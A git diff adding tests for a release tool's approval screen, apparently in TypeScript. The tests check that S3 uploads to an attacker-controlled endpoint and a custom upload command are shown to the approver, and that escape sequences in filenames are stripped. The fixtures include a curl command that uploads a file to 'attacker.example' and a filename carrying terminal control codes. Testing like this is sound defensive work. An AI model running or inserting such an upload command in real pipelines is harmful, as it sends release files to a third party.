@@ -1,6 +1,7 @@
 import { approvalLines } from '../../src/cli/screens/approval.js';
 import { colours } from '../../src/cli/render/paint.js';
 import type { Manifest, SealedArtifact } from '../../src/engine/ledger/manifest.js';
+import { targetsOf } from '../../src/engine/gates/targets.js';
 import { gateStatus } from '../../src/engine/gates.js';
 import type { Digest } from '../../src/model/digest.js';
 import type { Target } from '../../src/model/params.js';
@@ -23,13 +24,14 @@ const publish = (target: Target, ...of: readonly number[]) =>
     ),
   );
 
-function screen(steps: Plan['steps'], artifacts: readonly SealedArtifact[], all: boolean): string {
+function screen(steps: Plan['steps'], artifacts: readonly SealedArtifact[], all: boolean, opened?: Plan): string {
   const plan = aPlan({ steps, profile: { name: 'live', rehearsal: false } });
   const manifest: Manifest = {
     ...{ slipway: 1, release: plan.release, source: plan.source, artifacts, evidence: [] },
     ...{ done: [], dropped: [], notRun: [], skipped: [], findings: [] },
   };
-  const targets = [{ name: 'index', kind: 'python', address: 'https://index.example/', repository: null }] as const;
+  const index = { name: 'index', kind: 'python', address: 'https://index.example/', repository: null } as const;
+  const targets = opened ? targetsOf(opened, (address) => address) : [index];
   const gate = gateStatus(aRule(), aGate({ targets }), 0);
   return approvalLines({ plan, manifest, gate, status: inTheMiddle(), all }, colours(false)).join('\n');
 }
@@ -62,4 +64,30 @@ test('[M4] a name with control characters moves no cursor, and what no target ge
   const shown = screen(publish(index, 1), [wheel(1, 'skiff\u001b[2K\u001b[1A-1.2.3.whl'), wheel(2)], true);
   expect(shown).not.toContain('\u001b');
   expect(shown).toContain(`Sealed, and published nowhere:\n  skiff_2-1.2.3.whl  ${digest(2)}  (wheels/w2)`);
+});
+
+test('[M4] a bucket on the server of the attacker is shown, and signed, with that server', () => {
+  const extra = { kind: 's3' as const, path: '{file}', endpoint: 'https://attacker.example' };
+  const files = aTarget({ name: 'files', kind: 's3', address: 's3://releases/skiff', extra });
+  const plan = aPlan({ steps: publish(files, 1) });
+  expect(targetsOf(plan, (address) => address)).toMatchObject([
+    { address: 's3://releases/skiff on https://attacker.example' },
+  ]);
+  expect(screen(plan.steps, [wheel(1)], true, plan)).toContain(
+    'files (s3 s3://releases/skiff on https://attacker.example) gets 1 file',
+  );
+});
+
+test('[M4] a line that sends the bytes, a tag of git and a name that moves are shown', () => {
+  const upload = 'curl -T "$FILE" https://attacker.example';
+  const lines = { kind: 'command' as const, observe: 'true', upload, undo: null, secrets: [] };
+  const conda = aTarget({ name: 'conda', kind: 'command', address: 'https://conda.example/', extra: lines });
+  const named = { kind: 'git-tag' as const, tag: 'v1.2.3', message: '', commit: '0'.repeat(40) };
+  const tag = aTarget({ name: 'tag', kind: 'git-tag', address: 'https://git.example/', extra: named });
+  const moves = { target: conda, name: 'latest', version: '1.2.3', to: 'images/skiff', when: 'always' as const };
+  const steps = [...publish(conda, 1), ...publish(tag, 1), aStep('movePointer', moves, { id: 'point/latest' })];
+  const shown = screen(steps, [wheel(1)], true);
+  expect(shown).toContain(`sent by: ${upload}`);
+  expect(shown).toContain(`tag v1.2.3 on commit ${'0'.repeat(40)}`);
+  expect(shown).toContain('conda: latest to images/skiff, always');
 });
